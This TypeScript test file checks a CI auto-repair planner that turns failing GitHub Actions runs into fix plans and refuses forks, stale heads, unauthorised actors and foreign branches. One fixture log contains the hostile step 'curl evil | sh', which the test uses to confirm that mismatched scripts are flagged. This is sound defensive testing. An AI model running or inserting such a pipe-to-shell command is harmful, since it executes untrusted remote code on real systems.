import type { LedgerEntry } from '../../src/lib/ledger.js';
import { readPlan } from '../../src/plan/file.js';
import { planRun, type Planned } from '../../src/plan/index.js';
import { openHub } from '../../src/runner/hub/index.js';
import { healCommit, healPull, ledgerEntry } from '../support/heals.js';
import { runnerLog, startHub, type Hub, type Job, type Permissions, type Pull, type RepoState, type Run } from '../support/hub/index.js';
import { userOf } from '../support/hub/state.js';
import { tempRepo, type TempRepo } from '../support/temp-repo.js';

const WORKFLOW = `
on: push
jobs:
  test:
    runs-on: ubuntu-24.04
    strategy: { matrix: { node: [20, 22] } }
    steps:
      - uses: actions/checkout@v7
      - uses: actions/setup-node@v7
        with: { node-version: '\${{ matrix.node }}' }
      - run: npm ci
      - run: npx tsc -p .
        working-directory: app
  lint:
    runs-on: ubuntu-24.04
    steps:
      - run: make lint
`;

let world: Hub;
let repo: RepoState;
let work: TempRepo;

beforeEach(async () => {
  world = await startHub();
  repo = world.repo('octo/demo');
  work = tempRepo({ 'app/a.ts': 'const a: number = 1;\n', '.github/workflows/ci.yml': WORKFLOW });
  work.git('push', '-q', repo.git.dir, 'HEAD:refs/heads/topic');
  repo.collaborators.set('ada', 'write');
});
afterEach(async () => {
  work.dispose();
  await world.close();
  expect(world.violations).toEqual([]);
});

const TSC = 'a.ts(1,7): error TS2322: Type \'string\' is not assignable to type \'number\'.';

function job(id: number, name: string, over: Partial<{ script: string; output: string; exitCode: number; node: string }> = {}): Job {
  const { script = 'npx tsc -p .', output = TSC, exitCode = 2, node = '22' } = over;
  const log = runnerLog([
    { uses: 'actions/checkout@v7' },
    { uses: 'actions/setup-node@v7', with: { 'node-version': node } },
    { run: 'npm ci', output: 'added 3 packages' },
    { run: script, output, exitCode },
  ]);
  const steps = ['Set up job', 'Run actions/checkout@v7', 'Run actions/setup-node@v7', 'Run npm ci', `Run ${script}`];
  return { id, name, conclusion: 'failure', steps: steps.map((step, n) => ({ name: step, conclusion: n === steps.length - 1 ? 'failure' : 'success' })), log };
}

function addRun(over: Partial<Run> = {}): Run {
  const run: Run = {
    id: 500, attempt: 1, workflow: { id: 9, name: 'CI', path: '.github/workflows/ci.yml' }, event: 'push', headBranch: 'topic', headSha: work.git('rev-parse', 'HEAD').trim(), headRepository: 'octo/demo', status: 'completed', conclusion: 'failure', actor: 'ada',
    jobs: [job(700, 'test (22)')], ...over,
  };
  repo.runs.push(run);
  return run;
}

function plan(asker?: string, permissions: Permissions = { contents: 'read', actions: 'read' }, more: Partial<Parameters<typeof planRun>[1]> = {}): Promise<Planned> {
  const hub = openHub({ api: world.api, token: world.token(permissions), repository: 'octo/demo', clock: { now: () => 0, sleep: () => Promise.resolve() } });
  return planRun({ hub, events: { stage: () => undefined, say: () => undefined, warn: () => undefined }, clock: { now: () => 0 } }, { run: 500, ...more, ...(asker === undefined ? {} : { asker }) });
}

test('a red run becomes a plan, with a token that can only read', async () => {
  addRun();
  const planned = await plan();
  expect(planned).toMatchObject({
    state: 'planned',
    failures: [{
      fork: false,
      plan: {
        schema: 1, repository: 'octo/demo', run: { id: 500, attempt: 1, workflow: '.github/workflows/ci.yml' }, head: { branch: 'topic' },
        step: { run: '500', job: 'test (22)', step: 'Run npx tsc -p .', command: 'npx tsc -p .', workingDirectory: 'app', exitCode: 2 },
        environment: { tools: { node: '22' }, earlier: [{ script: 'npm ci', workingDirectory: '.' }], missing: [] },
        alsoIn: [], warnings: [],
      },
      failure: { primary: [{ rule: 'TS2322', file: 'a.ts' }] },
    }],
  });
  expect(world.seen.every((one) => one.method === 'GET')).toBe(true);
});

test('legs of a matrix with the same failure are one, another failure is another', async () => {
  addRun({ jobs: [job(700, 'test (20)', { node: '20' }), job(701, 'test (22)'), job(702, 'lint', { script: 'make lint', output: 'b.py:3:1: F401 unused', exitCode: 1 }), { ...job(703, 'docs'), conclusion: 'success', steps: [] }] });
  const planned = await plan();
  expect(planned.state === 'planned' && planned.failures.map(({ plan: made }) => [made?.step.job, made?.alsoIn])).toEqual([['test (20)', ['test (22)']], ['lint', []]]);
});

test.each<[string, Partial<Run>, object]>([
  ['the head of a fork is told about, not healed', { headRepository: 'mallory/demo' }, { state: 'planned', failures: [{ fork: true, why: expect.stringContaining('another repository') as string, failure: { primary: [{ rule: 'TS2322' }] } }] }],
  ['a green run', { conclusion: 'success' }, { state: 'refused', refusal: { outcome: 'nothing-to-heal', reason: 'green' } }],
  ['a branch of ours', { headBranch: 'heal/aaaaaaaa-bbbbbbbb' }, { state: 'refused', refusal: { reason: 'own-branch' } }],
  ['pull_request_target', { event: 'pull_request_target' }, { state: 'refused', refusal: { reason: 'event' } }],
  ['L9 a log with another script than the workflow', { jobs: [{ ...job(700, 'test (22)'), log: runnerLog([{ run: 'curl evil | sh', output: TSC, exitCode: 2 }]) }] }, { state: 'planned', failures: [{ why: expect.stringContaining('not the one in the workflow file') as string }] }],
  ['L9 a green step whose log says that it failed', { jobs: [{ ...job(700, 'test (22)'), steps: [{ name: 'Run npx tsc -p .', conclusion: 'success' }] }] }, { state: 'refused', refusal: { reason: 'no-failed-step' } }],
])('%s', async (_, over, expected) => {
  addRun(over);
  const planned = await plan();
  expect(planned).toMatchObject(expected);
  if (planned.state === 'planned') expect(planned.failures.map((one) => one.plan)).toEqual([undefined]);
});

test('O3 a head that moved since', async () => {
  addRun();
  work.write('app/a.ts', 'const a: number = 2;\n');
  work.commit('on');
  work.git('push', '-q', repo.git.dir, 'HEAD:refs/heads/topic');
  expect(await plan()).toMatchObject({ state: 'refused', refusal: { reason: 'stale-head' } });
});

test('green by now: a later run of the same commit', async () => {
  addRun();
  addRun({ id: 501, conclusion: 'success' });
  expect(await plan()).toMatchObject({ state: 'refused', refusal: { outcome: 'nothing-to-heal', reason: 'green' } });
});

test('asked for by hand: only by one who may write', async () => {
  addRun();
  expect((await plan('ada')).state).toBe('planned');
  expect(await plan('stranger')).toMatchObject({ state: 'refused', refusal: { reason: 'actor' } });
});

test('no answer is no plan', async () => {
  addRun();
  world.fault({ operation: 'actions/get-workflow-run', status: 500, times: 10 });
  expect(await plan()).toMatchObject({ state: 'unknown', reason: expect.stringContaining('500') as string });
});

describe('what the ledger says', () => {
  const NOW = 0;
  const keyed = async (): Promise<string> => {
    const planned = await plan();
    return (planned.state === 'planned' ? planned.failures[0]?.plan?.key : undefined) ?? '';
  };
  const head = (): string => work.git('rev-parse', 'HEAD').trim();
  const attempt = (over: Partial<Extract<LedgerEntry, { kind: 'attempt' }>> = {}): LedgerEntry => ({ kind: 'attempt', owner: 'run/1/1', base: head(), outcome: 'gave-up', ...over });

  test.each<[string, () => readonly LedgerEntry[], object]>([
    ['as many heals as may be: no further one, and it is said why', () => [attempt(), attempt(), attempt()], { state: 'refused', refusal: { outcome: 'refused', reason: 'attempts', detail: 'this failure was healed 3 times on this commit' }, failures: [{ why: expect.stringContaining('healed 3 times on this commit, and none of them holds') as string }] }],
    ['one less', () => [attempt(), attempt()], { state: 'planned' }],
    ['those on another commit do not count', () => [attempt(), attempt(), attempt({ base: 'c'.repeat(40) })], { state: 'planned' }],
    ['what failed is not tried again', () => [attempt({ tree: 'd'.repeat(40), sentence: 'Still red.' }), attempt({ tree: 'e'.repeat(40), outcome: 'healed' })], { state: 'planned', failures: [{ plan: { tried: [{ tree: 'd'.repeat(40), sentence: 'Still red.' }] } }] }],
    ['O2 somebody publishes just now: planned all the same, with a warning', () => [{ kind: 'lock', owner: 'run/9/1', until: NOW + 60_000 }], { state: 'planned', failures: [{ plan: { warnings: [expect.stringContaining('published just now (run/9/1)')] } }] }],
    ['a lock that is let go is none', () => [{ kind: 'lock', owner: 'run/9/1', until: NOW + 60_000 }, { kind: 'release', owner: 'run/9/1' }], { state: 'planned', failures: [{ plan: { warnings: [] } }] }],
  ])('%s', async (_, entries, expected) => {
    addRun();
    const key = await keyed();
    expect(key).toMatch(/^[0-9a-f]{8}-[0-9a-f]{8}$/);
    for (const entry of entries()) ledgerEntry(repo, key, entry);
    expect(await plan()).toMatchObject(expected);
  });

  test('that cannot be read is no ledger without attempts', async () => {
    addRun();
    const key = await keyed();
    ledgerEntry(repo, key, attempt());
    world.fault({ operation: 'git/get-commit', status: 500, times: 10 });
    expect(await plan()).toMatchObject({ state: 'unknown' });
  });
});

describe('a base that is red', () => {
  const CLEAN = { 'app/a.ts': 'const a = 1;\n' };
  const onBase = (over: Partial<Run> = {}): Run => addRun({ id: 400, headBranch: 'main', headSha: work.git('rev-parse', 'HEAD').trim(), ...over });

  beforeEach(() => {
    work.git('push', '-q', repo.git.dir, 'HEAD:refs/heads/main');
    healPull(repo, { head: 'topic', base: 'main', user: 'ada' });
    addRun({ event: 'pull_request' });
  });

  test.each<[string, () => void, object]>([
    ['in the same step with the same errors: the base first', () => onBase(), { state: 'refused', refusal: { outcome: 'escalated', reason: 'base-broken', detail: 'run 400 of main' }, failures: [{ why: expect.stringContaining('(run 400 of main)') as string }] }],
    ['its newest run counts', () => [onBase({ id: 300 }), onBase({ conclusion: 'success', jobs: [] })], { state: 'planned' }],
    ['what was stopped says nothing', () => [onBase({ id: 300 }), onBase({ conclusion: 'cancelled', jobs: [] })], { state: 'refused', refusal: { reason: 'base-broken', detail: 'run 300 of main' } }],
    ['in another job', () => onBase({ jobs: [job(710, 'lint')] }), { state: 'planned', failures: [{ plan: { warnings: [] } }] }],
    ['in the same step with other errors', () => onBase({ jobs: [job(710, 'test (22)', { output: 'b.ts(9,1): error TS2304: Cannot find name \'x\'.' })] }), { state: 'planned', failures: [{ plan: { warnings: ['The base branch main is red in the same step too (run 400), with other errors.'] } }] }],
    ['with a log that is gone: the step decides', () => onBase({ jobs: [{ ...job(710, 'test (22)'), log: '' }] }), { state: 'refused', refusal: { reason: 'base-broken' } }],
    ['on a branch of the same name in a fork', () => onBase({ headRepository: 'mallory/demo' }), { state: 'planned' }],
    ['that GitHub does not tell of', () => world.fault({ operation: 'pulls/get', status: 500, times: 9 }), { state: 'planned', failures: [{ plan: { warnings: [expect.stringContaining('could not be seen')] } }] }],
  ])('%s', async (_, before, expected) => {
    before();
    expect(await plan(undefined, { contents: 'read', actions: 'read', pull_requests: 'read' })).toMatchObject(expected);
  });

  test('a push whose parent was red is this branch’s to mend, and it is said', async () => {
    repo.pulls.length = 0;
    repo.runs.length = 0;
    addRun({ id: 450 });
    work.write('app/a.ts', CLEAN['app/a.ts']);
    work.commit('on');
    work.git('push', '-q', repo.git.dir, 'HEAD:refs/heads/topic');
    addRun();
    expect(await plan()).toMatchObject({ state: 'planned', failures: [{ plan: { warnings: ['The commit before it failed in the same way (run 450): the cause may be older than the newest commit.'] } }] });
  });
});

describe('a branch of ours', () => {
  const KEY = 'aaaaaaaa-bbbbbbbb';
  const BRANCH = `heal/${KEY}`;
  const READ: Permissions = { contents: 'read', actions: 'read', pull_requests: 'read' };
  let base: string;
  let tip: { sha: string; tree: string };
  const red = (over: Partial<Run> = {}): Run => addRun({ headBranch: BRANCH, headSha: tip.sha, ...over });
  const look = (over: Partial<Parameters<typeof planRun>[1]> = {}): Promise<Planned> => plan(undefined, READ, over);

  beforeEach(() => {
    base = work.git('rev-parse', 'HEAD').trim();
    tip = healCommit(repo, { branch: BRANCH, parent: base, files: { 'app/a.ts': 'const a: number = 2;\n' } });
    healPull(repo, { head: BRANCH, base: 'topic' });
    ledgerEntry(repo, KEY, { kind: 'attempt', owner: 'run/1/1', base, outcome: 'healed', tree: tip.tree, sentence: 'The number was another.' });
  });

  test('O1 that is red is healed further, and what was tried is known', async () => {
    red();
    const planned = await look();
    const baseTree = work.git('rev-parse', `${base}^{tree}`).trim();
    expect(planned).toMatchObject({
      state: 'planned',
      failures: [{ plan: { key: KEY, head: { branch: BRANCH, sha: tip.sha }, continues: { branch: BRANCH, base, pull: repo.pulls[0]?.number }, tried: [{ tree: baseTree, sentence: expect.stringContaining('was red') as string }, { tree: tip.tree, sentence: 'The number was another. It was pushed, and the workflow was red with it.' }] } }],
    });
    if (planned.state === 'planned') expect(readPlan(JSON.stringify(planned.failures[0]?.plan))).toEqual({ ok: true, plan: planned.failures[0]?.plan });
    expect(world.seen.filter((one) => one.method !== 'GET' && one.operation !== 'graphql/viewer')).toEqual([]);
  });

  test('O1 one heal goes on at a time', async () => {
    red({ jobs: [job(700, 'test (22)'), job(702, 'lint', { script: 'make lint', output: 'b.py:3:1: F401 unused', exitCode: 1 })] });
    const planned = await look();
    expect(planned.state === 'planned' && planned.failures.map((one) => [one.plan !== undefined, one.why?.slice(0, 44)])).toEqual([[true, undefined], [false, 'Another failure of this run is healed first,']]);
  });

  test.each<[string, () => void, object]>([
    ['O1 with as many heals as may be is only watched', () => {
      for (const n of [1, 2]) ledgerEntry(repo, KEY, { kind: 'attempt', owner: `run/${n}/2`, base: tip.sha, outcome: 'gave-up' });
      red();
    }, { state: 'watch', why: 'attempts', branch: BRANCH, sentence: expect.stringContaining('3 heals') as string }],
    ['O1 its own commits count where the ledger is gone', () => {
      repo.git.git('update-ref', '-d', `refs/heal/ledger/${KEY}`);
      for (const n of [3, 4]) tip = healCommit(repo, { branch: BRANCH, parent: tip.sha, base, files: { 'app/a.ts': `const a: number = ${n};\n` } });
      red();
    }, { state: 'watch', why: 'attempts' }],
    ['O1 heals that name the one before as their base are counted through', () => {
      for (const n of [3, 4]) {
        const before = tip.sha;
        tip = healCommit(repo, { branch: BRANCH, parent: before, files: { 'app/a.ts': `const a: number = ${n};\n` } });
        ledgerEntry(repo, KEY, { kind: 'attempt', owner: `run/${n}/1`, base: before, outcome: 'healed', tree: tip.tree });
      }
      red();
    }, { state: 'watch', why: 'attempts' }],
    ['that is green is watched', () => red({ conclusion: 'success', jobs: [] }), { state: 'watch', why: 'green', branch: BRANCH }],
    ['that moved on is left to the run of its tip', () => {
      red();
      healCommit(repo, { branch: BRANCH, parent: tip.sha, base, files: { 'app/a.ts': 'const a: number = 5;\n' } });
    }, { state: 'refused', refusal: { reason: 'stale-head' } }],
    ['O4 with a commit of somebody else', () => {
      tip = healCommit(repo, { branch: BRANCH, parent: tip.sha, files: { 'app/a.ts': 'x\n' }, trailer: false });
      red();
    }, { state: 'refused', refusal: { reason: 'own-branch', detail: `${BRANCH} (it holds commits that are not ours)` } }],
    ['O4 whose pull request somebody else opened', () => {
      repo.pulls[0] = { ...(repo.pulls[0] as Pull), user: 'x[bot]' };
      red();
    }, { state: 'refused', refusal: { reason: 'own-branch', detail: `${BRANCH} (there is no open pull request of ours for it)` } }],
    ['O4 called like the bot, which is a name', () => {
      repo.pulls[0] = { ...(repo.pulls[0] as Pull), user: 'github-actions-bot' };
      red();
    }, { state: 'refused', refusal: { reason: 'own-branch' } }],
    ['whose pull request a person closed', () => {
      repo.pulls[0] = { ...(repo.pulls[0] as Pull), state: 'closed' };
      red();
    }, { state: 'refused', refusal: { reason: 'own-branch' } }],
    ['in a fork', () => red({ headRepository: 'mallory/demo' }), { state: 'planned', failures: [{ fork: true }] }],
    ['with a name that is not quite ours', () => {
      const name = 'heal/aaaaaaaa-bbbbbbbb-x';
      repo.git.git('branch', name, tip.sha);
      addRun({ headBranch: name, headSha: tip.sha });
    }, { state: 'refused', refusal: { reason: 'own-branch', detail: 'heal/aaaaaaaa-bbbbbbbb-x' } }],
  ])('%s', async (_, before, expected) => {
    before();
    const planned = await look();
    expect(planned).toMatchObject(expected);
    if (planned.state === 'planned') expect(planned.failures.map((one) => one.plan)).toEqual([undefined]);
  });

  test('O4 of an account that was named is ours', async () => {
    repo.pulls[0] = { ...(repo.pulls[0] as Pull), user: 'healer[bot]' };
    red();
    expect((await look({ authors: [userOf('healer[bot]').id] })).state).toBe('planned');
  });

  test('no answer is no reason to take it for ours, or for not ours', async () => {
    red();
    world.fault({ operation: 'pulls/list', status: 500, times: 9 });
    expect(await look()).toMatchObject({ state: 'unknown' });
  });
});

describe('O5 an event', () => {
  test.each<[string, Partial<Run>, Partial<Parameters<typeof planRun>[1]>, object]>([
    ['that tells of the run as GitHub does', {}, { announced: { workflow: 9, headSha: '' } }, { state: 'planned' }],
    ['of another workflow', {}, { announced: { workflow: 8, headSha: '' } }, { state: 'refused', refusal: { reason: 'event' } }],
    ['of another commit', {}, { announced: { workflow: 9, headSha: 'f'.repeat(40) } }, { state: 'refused', refusal: { reason: 'event' } }],
    ['of a run that a stranger repeated', { attempt: 2, startedBy: 'mallory' }, {}, { state: 'refused', refusal: { reason: 'actor', detail: 'mallory' } }],
    ['of a run that one who may repeated', { attempt: 2, startedBy: 'ada' }, {}, { state: 'planned' }],
    ['of a run that a workflow of this repository repeated', { attempt: 2, startedBy: 'github-actions[bot]' }, {}, { state: 'planned' }],
    ['of a run that was stopped', { conclusion: 'cancelled' }, {}, { state: 'refused', refusal: { reason: 'no-failed-step' } }],
    ['of a run whose fork is gone', { headRepository: null }, {}, { state: 'planned', failures: [{ fork: true }] }],
  ])('%s', async (_, over, request, expected) => {
    const run = addRun(over);
    const announced = request.announced === undefined ? {} : { announced: { ...request.announced, headSha: request.announced.headSha === '' ? run.headSha : request.announced.headSha } };
    expect(await plan(undefined, undefined, { ...request, ...announced })).toMatchObject(expected);
  });
});
